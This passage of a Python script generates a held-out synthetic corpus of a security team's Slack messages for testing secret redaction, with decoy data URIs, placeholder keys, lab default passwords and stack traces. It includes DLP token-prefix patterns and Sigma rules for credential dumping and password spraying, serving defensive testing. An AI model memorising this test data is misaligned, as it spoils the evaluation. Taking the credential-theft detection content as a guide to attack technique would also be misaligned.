#!/usr/bin/env python3
"""Held-out redaction corpus, set 13: a security and IT-ops team's Slack.

Standard library only. Deterministic: random.Random(1313). Writes
redaction13_negatives.jsonl and redaction13_positives.jsonl next to this file.
"""
import base64, binascii, hashlib, ipaddress, json, os, random, re, struct, uuid, zlib

SEED = 1313
R = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

LANGS = set()   # languages used in the message being built (besides English)

B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
HEX = "0123456789abcdef"
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

def rs(n, alpha=B62):
    return "".join(R.choice(alpha) for _ in range(n))

def hx(n):
    return rs(n, HEX)

def rb(n):
    return bytes(R.randrange(256) for _ in range(n))

def b64(b):
    return base64.b64encode(b).decode()

def b64u(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")

def uid():
    return str(uuid.UUID(bytes=rb(16), version=4))

def pick(seq):
    return R.choice(seq)

def wrap64(s, n=64):
    return "\n".join(s[i:i + n] for i in range(0, len(s), n))

def ts():
    return "2026-%02d-%02dT%02d:%02d:%02d.%03dZ" % (R.randint(1, 11), R.randint(1, 28), R.randint(0, 23), R.randint(0, 59), R.randint(0, 59), R.randint(0, 999))

def epoch():
    return R.randint(1760000000, 1795000000)

def priv_ip():
    k = R.randrange(3)
    if k == 0:
        return "10.%d.%d.%d" % (R.randint(0, 255), R.randint(0, 255), R.randint(1, 254))
    if k == 1:
        return "172.%d.%d.%d" % (R.randint(16, 31), R.randint(0, 255), R.randint(1, 254))
    return "192.168.%d.%d" % (R.randint(0, 255), R.randint(1, 254))

def doc_ip():
    return pick(["192.0.2.", "198.51.100.", "203.0.113."]) + str(R.randint(1, 254))

def priv_cidr():
    k = R.randrange(3)
    if k == 0:
        return "10.%d.%d.0/%d" % (R.randint(0, 255), R.randint(0, 255), pick([16, 20, 22, 24]))
    if k == 1:
        return "172.%d.%d.0/%d" % (R.randint(16, 31), R.randint(0, 255), pick([20, 24, 26]))
    return "192.168.%d.0/24" % R.randint(0, 255)

def cve():
    return "CVE-%d-%d" % (R.choice([2021, 2022, 2023, 2024, 2025, 2026]), R.randint(1000, 58999))

def semver():
    return "%d.%d.%d" % (R.randint(0, 9), R.randint(0, 30), R.randint(0, 40))

def doc_mac():
    # RFC 7042 documentation range
    return "00:00:5e:00:53:%02x" % R.randint(0, 255)

def apple_serial():
    return pick(["C02", "FVF", "F5K", "H4T", "DMP"]) + rs(9, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")

def dell_tag():
    return rs(7, "BCDFGHJKLMNPQRSTVWXYZ0123456789")

def asset_tag():
    return "IT-%d-%05d" % (R.choice([2022, 2023, 2024, 2025, 2026]), R.randint(1, 99999))

def asset_range():
    y, n = R.choice([2025, 2026]), R.randint(1, 90000)
    return "IT-%d-%05d" % (y, n), "IT-%d-%05d" % (y, n + R.randint(5, 60))

def hostname():
    return "%s-%s-%04d" % (pick(["LT", "WS", "MBP", "VDI", "KIOSK"]), pick(["FIN", "ENG", "OPS", "HR", "SALES", "SEC", "LEGAL"]), R.randint(1, 9999))

def luhn_ok(d):
    s = 0
    for i, c in enumerate(reversed(d)):
        n = int(c)
        if i % 2 == 1:
            n *= 2
            if n > 9:
                n -= 9
        s += n
    return s % 10 == 0

def crc32_b62(s):
    c = zlib.crc32(s.encode()) & 0xffffffff
    out = ""
    while c:
        c, r = divmod(c, 62)
        out = B62[r] + out
    return out.rjust(6, "0")

# ---------------------------------------------------------------- languages
LEADS = {
    "en": ["fyi", "heads up:", "quick one:", "from the scan last night:", "for the review:", "pasting here so it's searchable:"],
    "de": ["Zur Info:", "Kurz zur Einordnung:", "Aus dem nächtlichen Scan:", "Für das Review heute:", "Hier der Auszug:"],
    "fr": ["Pour info :", "Extrait du rapport :", "Petit point sécu :", "Voici ce que remonte l'outil :"],
    "es": ["Para que conste:", "Os pego la salida:", "Del escaneo de anoche:", "Ojo con esto:"],
    "pt": ["Só pra registrar:", "Saída do scanner:", "Segue o trecho:"],
    "nl": ["Ter info:", "Uit de scan van vannacht:", "Even delen:"],
    "it": ["Per info:", "Ecco l'output:", "Dal report di stanotte:"],
    "pl": ["Dla porządku:", "Wynik skanu z nocy:", "Wklejam fragment:"],
    "ja": ["メモ:", "昨夜のスキャン結果です:", "レビュー用に貼っておきます:", "共有です:"],
    "zh": ["供参考：", "昨晚扫描的结果：", "贴一下输出："],
    "ko": ["참고로:", "어젯밤 스캔 결과입니다:", "공유드립니다:"],
    "ru": ["К сведению:", "Вывод сканера за ночь:", "Кидаю сюда, чтобы не потерялось:"],
    "uk": ["До відома:", "Ось вивід:"],
    "el": ["Για ενημέρωση:", "Το αποτέλεσμα του σκαναρίσματος:"],
}
TAILS = {
    "en": ["nothing to rotate here", "false positive, closing", "ack", "will file a ticket"],
    "de": ["kein Handlungsbedarf", "ist ein False Positive"],
    "fr": ["rien à faire de notre côté", "faux positif"],
    "es": ["falso positivo, lo cierro"],
    "ja": ["対応不要です", "誤検知でした"],
    "ru": ["ложное срабатывание"],
    "ko": ["오탐입니다"],
    "zh": ["误报，已关闭"],
}

def lead(p_foreign=0.75):
    if R.random() < p_foreign:
        lang = pick([k for k in LEADS if k != "en"])
    else:
        lang = "en"
    if lang != "en":
        LANGS.add(lang)
    return pick(LEADS[lang])

def tail():
    lang = pick(list(TAILS))
    if lang != "en":
        LANGS.add(lang)
    return pick(TAILS[lang])

def say(d):
    """d: dict lang -> sentence; picks one, records language."""
    same = [k for k in d if k in LANGS]
    lang = pick(same) if same and R.random() < 0.8 else pick(list(d))
    if lang != "en":
        LANGS.add(lang)
    return d[lang]

# ---------------------------------------------------------------- image bytes
def png_bytes(w, h, rgb=None):
    def chunk(t, data):
        return struct.pack(">I", len(data)) + t + data + struct.pack(">I", zlib.crc32(t + data) & 0xffffffff)
    if rgb is None:
        rgb = (R.randrange(256), R.randrange(256), R.randrange(256))
    raw = b""
    for y in range(h):
        row = b"\x00"
        for x in range(w):
            if (x + y) % 3 == 0:
                row += bytes(rgb)
            else:
                row += bytes((255, 255, 255))
        raw += row
    ihdr = struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")

def gif_bytes():
    r, g, b = R.randrange(256), R.randrange(256), R.randrange(256)
    return (b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes((r, g, b)) + b"\x00\x00\x00"
            + b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")

def ico_bytes():
    png = png_bytes(16, 16)
    return struct.pack("<HHH", 0, 1, 1) + struct.pack("<BBBBHHII", 16, 16, 0, 0, 1, 32, len(png), 22) + png

def color():
    return "#%02x%02x%02x" % (R.randrange(256), R.randrange(256), R.randrange(256))

SVG_SHAPES = [
    '<path d="M8 1l6 3v4c0 3.5-2.6 6.4-6 7-3.4-.6-6-3.5-6-7V4z" fill="{c}"/>',           # shield
    '<circle cx="8" cy="8" r="6" fill="none" stroke="{c}" stroke-width="2"/><path d="M8 4v5" stroke="{c}" stroke-width="2"/>',
    '<rect x="3" y="7" width="10" height="7" rx="1" fill="{c}"/><path d="M5 7V5a3 3 0 016 0v2" fill="none" stroke="{c}" stroke-width="1.5"/>',  # padlock
    '<path d="M1 14L8 2l7 12z" fill="{c}"/><path d="M8 6v4M8 11.5v1" stroke="#fff" stroke-width="1.5"/>',  # warning
    '<path d="M2 8.5l4 4 8-9" fill="none" stroke="{c}" stroke-width="2"/>',  # check
    '<rect x="1" y="3" width="14" height="9" rx="1" fill="none" stroke="{c}"/><path d="M5 14h6" stroke="{c}"/>',  # laptop
    '<path d="M1 4h14v8H1z" fill="none" stroke="{c}"/><path d="M1 4l7 5 7-5" fill="none" stroke="{c}"/>',  # envelope (phishing icon)
]

def svg_text():
    s = pick(SVG_SHAPES).replace("{c}", color())
    return '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16" viewBox="0 0 16 16">%s</svg>' % s

def data_uri(kind=None):
    kind = kind or pick(["png", "png", "svg64", "svgpct", "gif", "ico", "svgutf8"])
    if kind == "png":
        n = pick([8, 12, 16, 24])
        return "data:image/png;base64," + b64(png_bytes(n, n))
    if kind == "gif":
        return "data:image/gif;base64," + b64(gif_bytes())
    if kind == "ico":
        return "data:image/x-icon;base64," + b64(ico_bytes())
    if kind == "svg64":
        return "data:image/svg+xml;base64," + b64(svg_text().encode())
    if kind == "svgpct":
        from urllib.parse import quote
        return "data:image/svg+xml," + quote(svg_text(), safe="=:/ ")
    return "data:image/svg+xml;utf8," + svg_text().replace('"', "'")

def trunc(s, keep=None):
    keep = keep or R.randint(60, 110)
    if len(s) <= keep + 10:
        return s
    return s[:keep] + pick(["…", "...", "…[%d more chars]" % (len(s) - keep), "... (truncated)"])

# ================================================================ NEGATIVES
NEG = {}

def neg(cat):
    def deco(f):
        NEG.setdefault(cat, []).append(f)
        return f
    return deco

# ---------------------------------------------------------------- data_uri_base64
C = "data_uri_base64"

@neg(C)
def du_css_severity():
    sev = pick(["critical", "high", "medium", "low", "info"])
    return ("%s the severity badges in the vuln dashboard are inline now, no more CDN fetch:\n```css\n.badge--%s::before {\n  content: \"\";\n  background-image: url(\"%s\");\n  width: 16px; height: 16px;\n}\n```" % (lead(0.5), sev, data_uri()))

@neg(C)
def du_confluence():
    return ("%s\n```html\n<td class=\"status\"><img alt=\"%s\" src=\"%s\" /> %s</td>\n```\n%s" % (
        say({"en": "Confluence runbook table, the status icon is embedded:", "de": "Im Runbook ist das Status-Icon direkt eingebettet:",
             "ja": "ランブックの表、ステータスアイコンは埋め込みです:", "fr": "Dans le runbook, l'icône est embarquée :"}),
        pick(["patched", "pending", "exception", "overdue"]), data_uri(pick(["png", "svg64", "gif"])), cve(),
        say({"en": "it's just a 16px icon, not a leaked blob", "es": "es solo un icono de 16px", "ru": "это просто иконка 16px"})))

@neg(C)
def du_saml_logo():
    return ("SAML SP metadata has the logo inline via mdui, that's why the file is 9 KB:\n```xml\n<mdui:UIInfo>\n  <mdui:DisplayName xml:lang=\"en\">Expense Portal</mdui:DisplayName>\n  <mdui:Logo height=\"16\" width=\"16\">%s</mdui:Logo>\n</mdui:UIInfo>\n```" % data_uri(pick(["png", "ico"])))

@neg(C)
def du_markdown_report():
    rows = []
    for _ in range(R.randint(3, 6)):
        rows.append("| ![%s](%s) | %s | %s |" % (pick(["ok", "warn", "fail"]), data_uri(pick(["svg64", "gif", "png"])), hostname(), pick(["compliant", "noncompliant", "grace period", "unknown"])))
    return "%s\n| | device | state |\n|---|---|---|\n%s" % (lead(0.6), "\n".join(rows))

@neg(C)
def du_jsx():
    name = pick(["ShieldIcon", "PadlockIcon", "PhishIcon", "LaptopIcon", "AlertIcon"])
    return ("```tsx\n// icons/%s.tsx\nexport const %s = () => (\n  <img\n    width={16}\n    height={16}\n    src=\"%s\"\n  />\n);\n```" % (name, name, data_uri(pick(["svg64", "png", "svgutf8"]))))

@neg(C)
def du_trunc_scanner_hit():
    u = data_uri(pick(["png", "ico", "png"]))
    return ("%s gitleaks flagged `docs/sso/%s.md:%d` as `generic-api-key`, but the match is inside an inline icon:\n```\n%s\n```\n%s" % (
        lead(0.6), pick(["okta", "entra", "keycloak", "onelogin"]), R.randint(10, 400), trunc(u), tail()))

@neg(C)
def du_phish_report_button():
    return ("Outlook add-in manifest for the \"Report phishing\" button — icons are data URIs because the add-in host blocks external images:\n```json\n{\n  \"id\": \"%s\",\n  \"name\": \"Report Phish\",\n  \"icons\": {\n    \"16\": \"%s\",\n    \"32\": \"%s\"\n  }\n}\n```" % (uid(), data_uri("png"), trunc(data_uri("png"), 90)))

@neg(C)
def du_email_pixel():
    return ("%s the phishing sample has a tracking pixel but it's inline, so no callback:\n```html\n<img src=\"%s\" width=\"1\" height=\"1\" style=\"display:none\">\n```" % (
        say({"en": "triage note:", "de": "Triage-Notiz:", "ja": "トリアージメモ:", "ko": "분석 메모:", "pl": "Notatka z triage:"}), data_uri("gif")))

@neg(C)
def du_python_fixture():
    return ("```python\n# tests/fixtures/icons.py\nSEVERITY_ICONS = {\n    \"critical\": \"%s\",\n    \"high\": \"%s\",\n}\n```" % (data_uri("svg64"), data_uri(pick(["png", "gif"]))))

@neg(C)
def du_grafana():
    return ("%s\n```json\n\"links\": [{\n  \"title\": \"Open in SIEM\",\n  \"icon\": \"%s\",\n  \"url\": \"https://siem.internal/search?q=rule_id%%3D%d\"\n}]\n```" % (
        lead(0.7), data_uri(pick(["svg64", "svgpct"])), R.randint(100000, 999999)))

@neg(C)
def du_decode_session():
    u = data_uri("svg64")
    payload = u.split(",", 1)[1]
    return ("```\n$ echo '%s' | base64 -d\n%s\n```\njust the padlock svg from the SSO login page" % (payload, base64.b64decode(payload).decode()))

@neg(C)
def du_csp_violation():
    return ("CSP report from the IdP login page:\n```json\n{\"csp-report\": {\"document-uri\": \"https://sso.corp.internal/login\", \"violated-directive\": \"img-src 'self'\", \"blocked-uri\": \"data\", \"source-file\": \"https://sso.corp.internal/static/login.%s.js\", \"line-number\": %d}}\n```\n%s the blocked image was `%s`" % (
        hx(8), R.randint(1, 3), say({"en": "Note:", "fr": "À noter :", "it": "Nota:", "zh": "注意：", "el": "Σημείωση:"}), trunc(data_uri(pick(["png", "svg64"])), 70)))

@neg(C)
def du_favicon_html():
    return ("```html\n<!-- status page for the VPN concentrator -->\n<link rel=\"icon\" href=\"%s\">\n<link rel=\"apple-touch-icon\" href=\"%s\">\n```" % (data_uri("ico"), data_uri("png")))

@neg(C)
def du_yaml_helm():
    return ("%s\n```yaml\n# values.yaml of the internal security portal\nbranding:\n  title: \"SecOps Portal\"\n  favicon: \"%s\"\n  loginBanner: \"%s\"\n```" % (
        lead(0.7), data_uri(pick(["ico", "png"])), data_uri(pick(["svg64", "svgutf8"]))))

@neg(C)
def du_go_test():
    return ("```go\nfunc TestRenderBadge(t *testing.T) {\n\twant := \"%s\"\n\tif got := RenderBadge(SeverityHigh); got != want {\n\t\tt.Fatalf(\"badge mismatch: %%q\", got)\n\t}\n}\n```" % data_uri("svg64"))

@neg(C)
def du_raw_png_b64():
    p = b64(png_bytes(pick([4, 8, 12]), pick([4, 8])))
    return ("%s raw base64 of the PNG (no data: prefix), from the MDM profile `PayloadIcon` field:\n```xml\n<key>PayloadIcon</key>\n<data>\n%s\n</data>\n```" % (lead(0.7), wrap64(p, 52)))

# ---------------------------------------------------------------- placeholder_example
C = "placeholder_example"

SVC = ["okta-scim", "siem-ingest", "jamf-api", "intune-graph", "vuln-scanner", "pagerduty-bridge", "ldap-sync", "backup-agent", "edr-connector", "ticket-bot"]

@neg(C)
def ph_rotation_runbook():
    svc = pick(SVC)
    steps = [
        "1. `vault kv get -field=token secret/%s/current` (do NOT paste the output here)" % svc,
        "2. generate new one in the vendor console → copy it to your clipboard only",
        "3. `vault kv put secret/%s/current token=<NEW_TOKEN>`" % svc,
        "4. `kubectl -n %s rollout restart deploy/%s`" % (pick(["secops", "it-tools", "integrations"]), svc),
        "5. revoke the old one: `curl -X DELETE -H \"Authorization: Bearer <OLD_TOKEN>\" https://api.vendor.example/v2/tokens/<TOKEN_ID>`",
    ]
    head = say({"en": "Rotation runbook for `%s`:" % svc, "de": "Rotations-Runbook für `%s`:" % svc, "fr": "Procédure de rotation pour `%s` :" % svc,
                "ja": "`%s` のローテーション手順:" % svc, "pt": "Runbook de rotação do `%s`:" % svc, "ru": "Ранбук ротации для `%s`:" % svc})
    return head + "\n" + "\n".join(steps)

@neg(C)
def ph_oidc_config():
    return ("```yaml\n# oauth2-proxy config for the %s dashboard\nprovider: oidc\noidc_issuer_url: https://login.corp.internal/realms/%s\nclient_id: %s\nclient_secret: ${OIDC_CLIENT_SECRET}\ncookie_secret: \"<32-byte-base64-generated-at-deploy>\"\nemail_domains: [\"*\"]\n```\n%s" % (
        pick(["vuln", "asset", "firewall", "siem"]), pick(["staff", "it", "secops"]), pick(["grafana-secops", "dtrack-ui", "netbox"]),
        say({"en": "secret comes from ESO, nothing in git", "de": "Secret kommt aus ESO, nichts im Repo", "es": "el secreto viene de ESO, nada en git", "ko": "시크릿은 ESO에서 주입됩니다"})))

@neg(C)
def ph_aws_doc_keys():
    return ("%s for the CLI training doc use the AWS documentation keys, they're public:\n```ini\n[profile training]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nregion = %s\n```" % (
        lead(0.6), pick(["eu-central-1", "us-east-1", "ap-northeast-1", "eu-west-2"])))

@neg(C)
def ph_vendor_prefixes():
    items = R.sample([
        "`sk-...` (OpenAI)", "`sk-ant-api03-…` (Anthropic)", "`xoxb-your-bot-token` (Slack bot)", "`xoxp-…` (Slack user)",
        "`ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` (GitHub classic)", "`github_pat_...` (GitHub fine-grained)", "`AKIA...` (AWS key id)",
        "`glpat-xxxxxxxxxxxxxxxxxxxx` (GitLab)", "`sk_live_…` / `rk_live_…` (Stripe)", "`SG.xxxxx.yyyyy` (SendGrid)", "`AIza…` (Google)",
    ], R.randint(4, 7))
    head = say({"en": "Patterns the DLP rule should catch (examples only, truncated on purpose):",
                "de": "Muster, die die DLP-Regel finden soll (nur Beispiele, absichtlich gekürzt):",
                "ja": "DLPルールで検知したいパターン（例のみ、意図的に省略）:",
                "es": "Patrones que debe detectar la regla DLP (solo ejemplos, truncados):",
                "zh": "DLP 规则需要识别的格式（仅示例，已截断）："})
    return head + "\n" + "\n".join("• " + i for i in items)

@neg(C)
def ph_defaults_compose():
    return ("```yaml\n# docker-compose.yml for the local lab (never exposed)\nservices:\n  keycloak:\n    image: quay.io/keycloak/keycloak:%s\n    environment:\n      KEYCLOAK_ADMIN: admin\n      KEYCLOAK_ADMIN_PASSWORD: changeme\n  dtrack:\n    image: dependencytrack/apiserver:%s\n    environment:\n      ALPINE_DATABASE_URL: jdbc:postgresql://db:5432/dtrack\n      ALPINE_DATABASE_USERNAME: dtrack\n      ALPINE_DATABASE_PASSWORD: changeme\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: changeme\n```\n%s" % (
        pick(["26.0.5", "25.0.6", "26.1.0"]), pick(["4.12.1", "4.11.7", "4.13.0"]), lead(0.3) + " lab only, defaults on purpose"))

@neg(C)
def ph_saml_placeholder_cert():
    return ("%s the template in the wiki has placeholders, fill from the IdP metadata:\n```xml\n<md:KeyDescriptor use=\"signing\">\n  <ds:KeyInfo>\n    <ds:X509Data>\n      <ds:X509Certificate>MIIC...PASTE_IDP_SIGNING_CERT_HERE...</ds:X509Certificate>\n    </ds:X509Data>\n  </ds:KeyInfo>\n</md:KeyDescriptor>\n<md:SingleSignOnService Binding=\"urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect\" Location=\"https://<your-idp-host>/saml2/sso\"/>\n```" % lead(0.6))

@neg(C)
def ph_masked_tool_output():
    svc = pick(SVC)
    return ("```\n$ %s\nNAME            TYPE      DATA\n%s-creds   Opaque    %d\n\n$ vault kv get secret/%s\n====== Data ======\nKey         Value\n---         -----\napi_token   %s\nclient_id   %s\n```" % (
        pick(["kubectl -n secops get secret", "kubectl get secret -n it-tools"]), svc, R.randint(2, 4), svc,
        pick(["[REDACTED]", "<sensitive>", "********", "(hidden, use -field)"]), svc + "-prod"))

@neg(C)
def ph_env_example():
    svc = pick(SVC).upper().replace("-", "_")
    return ("`.env.example` in the %s repo:\n```\n%s_API_URL=https://api.vendor.example\n%s_API_TOKEN=<YOUR_TOKEN>\n%s_WEBHOOK_SECRET=xxxx\nSLACK_BOT_TOKEN=xoxb-your-bot-token\nOPENAI_API_KEY=sk-...\nSIEM_HEC_TOKEN=00000000-0000-0000-0000-000000000000\nLDAP_BIND_PASSWORD=\n```" % (
        pick(["asset-sync", "phish-triage", "vuln-bot"]), svc, svc, svc))

@neg(C)
def ph_gha():
    return ("```yaml\n- name: Upload SBOM to Dependency-Track\n  run: |\n    curl -sf -X POST \"$DT_URL/api/v1/bom\" \\\n      -H \"X-Api-Key: ${{ secrets.DTRACK_API_KEY }}\" \\\n      -F \"projectName=%s\" -F \"projectVersion=%s\" -F \"bom=@sbom.cdx.json\"\n```\n%s" % (
        pick(["edr-connector", "asset-portal", "vpn-config-api"]), semver(),
        say({"en": "key lives in org secrets", "nl": "de key staat in de org secrets", "it": "la chiave è nei secret dell'org", "uk": "ключ лежить в org secrets"})))

@neg(C)
def ph_password_policy_example():
    return say({
        "en": "For the policy doc, the example of a *bad* password is literally `Password1!` and the good passphrase example is `correct horse battery staple` — both are famous public examples, nobody uses them.",
        "de": "Im Policy-Dokument nehmen wir als Negativbeispiel `Passwort123` und als Passphrase-Beispiel `correct horse battery staple` – beides bekannte Lehrbuchbeispiele.",
        "fr": "Dans la politique, exemple de mauvais mot de passe : `azerty123`, exemple de phrase de passe : `correct horse battery staple` (l'exemple XKCD connu).",
        "ja": "ポリシー文書の悪い例は `P@ssw0rd`、良い例は有名な `correct horse battery staple` にしました。",
    }) + " " + pick(["", "(and the form rejects both)", "— both are on the breached list anyway"])

@neg(C)
def ph_ldap_conf():
    return ("```ini\n# sssd.conf template (rendered by ansible)\n[domain/corp]\nid_provider = ldap\nldap_uri = ldaps://%s:636\nldap_default_bind_dn = cn=svc-sssd,ou=service,dc=corp,dc=internal\nldap_default_authtok = {{ vault_sssd_bind_password }}\nldap_tls_cacert = /etc/pki/tls/certs/corp-root.pem\n```" % priv_ip())

@neg(C)
def ph_curl_docs():
    return ("%s\n```bash\nexport JAMF_TOKEN=\"$(curl -s -u \"$JAMF_CLIENT_ID:$JAMF_CLIENT_SECRET\" \\\n  -X POST https://<tenant>.jamfcloud.com/api/oauth/token | jq -r .access_token)\"\ncurl -H \"Authorization: Bearer $JAMF_TOKEN\" \\\n  \"https://<tenant>.jamfcloud.com/api/v1/computers-inventory?page-size=%d\"\n```" % (
        say({"en": "how the inventory export works (placeholders in angle brackets):", "es": "así funciona el export del inventario:", "pt": "como funciona o export do inventário:", "ko": "인벤토리 내보내기 방법:"}), pick([100, 200, 500])))

@neg(C)
def ph_pem_dots():
    return ("%s what a leaked key *would* look like in the paste, for the awareness slide:\n```\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA...\n...\n-----END OPENSSH PRIVATE KEY-----\n```\n(body deliberately cut, it's not a key)" % lead(0.5))

@neg(C)
def ph_card_masks():
    return say({
        "en": "Phish triage: the fake \"invoice\" page asked for card `xxxx-xxxx-xxxx-xxxx`, exp `MM/YY`, CVC `***` — the form fields were empty placeholders, nobody submitted.",
        "de": "Phishing-Seite fragte nach Karte `XXXX XXXX XXXX XXXX`, Ablauf `MM/JJ`, CVC `***` – nur Platzhalter, niemand hat etwas eingegeben.",
        "es": "La página falsa pedía tarjeta `•••• •••• •••• ••••`, caducidad `MM/AA`, CVV `***`; solo eran placeholders, nadie envió nada.",
        "pl": "Fałszywa strona prosiła o kartę `XXXX-XXXX-XXXX-XXXX` i CVC `***` — tylko placeholdery, nikt nic nie wysłał.",
    })

@neg(C)
def ph_slack_webhook_example():
    return ("%s the notifier reads the webhook from SSM; the README example is the usual dummy:\n```\nSLACK_WEBHOOK_URL=https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX\n```" % lead(0.5))

@neg(C)
def ph_terraform_secret_ref():
    return ("```hcl\nresource \"okta_app_oauth\" \"%s\" {\n  label          = \"%s\"\n  type           = \"service\"\n  grant_types    = [\"client_credentials\"]\n  # secret is generated by Okta and written to Vault by the pipeline\n  client_basic_secret = var.client_secret # sensitive, default = \"\"\n}\n```" % (
        pick(["asset_sync", "vuln_bot", "siem_ingest"]), pick(["Asset sync", "Vuln bot", "SIEM ingest"])))

@neg(C)
def ph_k8s_secret_template():
    return ("```yaml\napiVersion: v1\nkind: Secret\nmetadata:\n  name: %s\ntype: Opaque\nstringData:\n  username: \"{{ .Values.ldap.bindUser }}\"\n  password: \"{{ .Values.ldap.bindPassword }}\"   # injected from sealed-secrets\n  apiKey: \"REPLACE_ME\"\n```" % pick(SVC))

# ---------------------------------------------------------------- code_identifier
C = "code_identifier"

W = ["Saml", "Oidc", "Token", "Secret", "Password", "Credential", "Rotation", "Signing", "Certificate", "Assertion", "Session",
     "Refresh", "Device", "Compliance", "Phishing", "Dkim", "Spf", "Firewall", "Rule", "Vulnerability", "Sbom", "Key", "Vault", "Policy", "Mfa", "Enrollment"]

def camel(n=None, lower=True):
    n = n or R.randint(3, 6)
    s = "".join(pick(W) for _ in range(n))
    return s[0].lower() + s[1:] if lower else s

def snake(n=None):
    n = n or R.randint(3, 6)
    return "_".join(pick(W).lower() for _ in range(n))

@neg(C)
def ci_keycloak_trace():
    lines = ["%s ERROR [org.keycloak.broker.saml.SAMLEndpoint] (executor-thread-%d) KC-SERVICES0093: Failed to verify signature" % (ts(), R.randint(1, 40)),
             "org.keycloak.common.VerificationException: Invalid signature on document"]
    frames = ["org.keycloak.saml.processing.core.util.XMLSignatureUtil.validate", "org.keycloak.broker.saml.SAMLEndpoint$Binding.handleLoginResponse",
              "org.keycloak.broker.saml.SAMLEndpoint$PostBinding.verifySignature", "org.keycloak.protocol.saml.SamlProtocolUtils.verifyDocumentSignature",
              "org.keycloak.services.resources.IdentityBrokerService.authenticated", "io.quarkus.vertx.core.runtime.VertxCoreRecorder$14.runWith"]
    for f in R.sample(frames, R.randint(3, 6)):
        lines.append("\tat %s(%s.java:%d)" % (f, f.split(".")[-1].split("$")[0], R.randint(40, 900)))
    extra = ["\tat com.corp.sso.mapper.%s.%s(%s.java:%d)" % (camel(3, False), camel(4), camel(2, False), R.randint(10, 400)) for _ in range(R.randint(1, 4))]
    return lead(0.6) + "\n```\n" + "\n".join(lines + extra) + "\n```"

@neg(C)
def ci_python_funcs():
    fns = [snake(R.randint(4, 7)) for _ in range(R.randint(3, 6))]
    body = "\n".join("def %s(%s) -> %s:\n    ..." % (f, pick(["ctx", "session, *, dry_run=False", "device_id: str", "policy: dict"]), pick(["None", "bool", "list[str]"])) for f in fns)
    return "%s\n```python\n%s\n```" % (say({"en": "naming is getting out of hand in `secops_tools/`:", "de": "Die Namen in `secops_tools/` werden langsam absurd:",
                                          "fr": "les noms dans `secops_tools/` deviennent longs :", "ja": "`secops_tools/` の関数名が長すぎる件:"}), body)

@neg(C)
def ci_terraform_addresses():
    addrs = ["%s.%s" % (pick(["okta_app_saml", "azuread_application", "aws_iam_role", "aws_security_group_rule", "google_project_iam_member", "vault_policy", "okta_group_rule"]), snake(R.randint(2, 4))) for _ in range(R.randint(3, 7))]
    return "```\n$ terraform plan -target=module.%s\n%s\n\nPlan: 0 to add, %d to change, 0 to destroy.\n```" % (
        snake(2), "\n".join("  # %s%s will be updated in-place" % (pick(["module.sso.", "module.network.", ""]), a) for a in addrs), len(addrs))

@neg(C)
def ci_sigma_rule():
    return ("```yaml\ntitle: %s\nid: %s\nstatus: experimental\nlogsource:\n  product: windows\n  service: security\ndetection:\n  selection:\n    EventID: %d\n    TargetUserName|endswith: '$'\n  condition: selection\nfields:\n  - %s\n  - %s\ntags:\n  - attack.credential_access\n  - attack.t%d\n```" % (
        pick(["Suspicious Kerberos Ticket Request For Service Account", "Credential Dumping Via Registry Save", "Password Spray Against SSO"]), uid(),
        pick([4768, 4769, 4625, 4771]), camel(3, False), camel(3, False), R.choice([1003, 1110, 1558, 1552])))

@neg(C)
def ci_kubectl_pods():
    names = ["%s-%s-%s" % (pick(["vault-agent-injector", "external-secrets", "cert-manager-webhook", "oauth2-proxy", "trivy-operator", "falco", "keycloak"]), hx(10)[:R.choice([9, 10])], rs(5, "bcdfghjklmnpqrstvwxz2456789")) for _ in range(R.randint(4, 8))]
    return "```\n$ kubectl -n secops get pods\nNAME%sREADY   STATUS    RESTARTS   AGE\n%s\n```" % (
        " " * 40, "\n".join("%-44s1/1     Running   %d          %dd" % (n, R.randint(0, 4), R.randint(1, 60)) for n in names))

@neg(C)
def ci_git_log():
    lines = ["%s %s" % (hx(7), pick(["fix(saml): accept SHA-256 digest in %s" % camel(3), "chore(deps): bump golang.org/x/crypto to v0.%d.0" % R.randint(20, 40),
                                       "feat(mdm): add %s to compliance report" % snake(3), "refactor: rename %s -> %s" % (camel(4), camel(4)),
                                       "ci: pin trivy-action@%s" % hx(40), "revert: \"%s\"" % pick(["tighten SG for bastion", "drop legacy SPF include"])])) for _ in range(R.randint(4, 8))]
    return "%s\n```\n$ git log --oneline -n %d\n%s\n```" % (lead(0.5), len(lines), "\n".join(lines))

@neg(C)
def ci_go_panic():
    return ("```\npanic: runtime error: invalid memory address or nil pointer dereference\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x%x pc=0x%x]\n\ngoroutine %d [running]:\ngithub.com/corp/secrets-rotator/internal/rotate.(*%s).%s(0xc000%s, {0x%x, 0xc000%s})\n\t/src/internal/rotate/%s.go:%d +0x%x\ngithub.com/hashicorp/vault/api.(*Logical).WriteWithContext(...)\n\t/go/pkg/mod/github.com/hashicorp/vault/api@v1.%d.0/logical.go:%d\nmain.main()\n\t/src/cmd/rotator/main.go:%d +0x%x\n```" % (
        R.randint(0x10, 0x90), R.randint(0x400000, 0xffffff), R.randint(1, 200), camel(2, False), camel(3, False), hx(6), R.randint(0x100000, 0xffffff), hx(6),
